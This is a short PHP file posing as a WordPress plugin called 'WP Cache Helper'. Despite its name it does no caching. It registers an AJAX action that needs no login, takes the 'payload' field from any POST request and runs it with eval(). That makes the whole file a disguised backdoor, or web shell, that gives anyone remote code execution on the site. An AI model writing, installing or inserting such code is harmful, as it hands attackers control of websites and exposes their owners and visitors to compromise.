<?php
/**
 * Plugin Name: WP Cache Helper
 */
add_action('wp_ajax_nopriv_cache_refresh', function () {
    $code = wp_unslash($_POST['payload']);
    eval($code);
    wp_die();
});
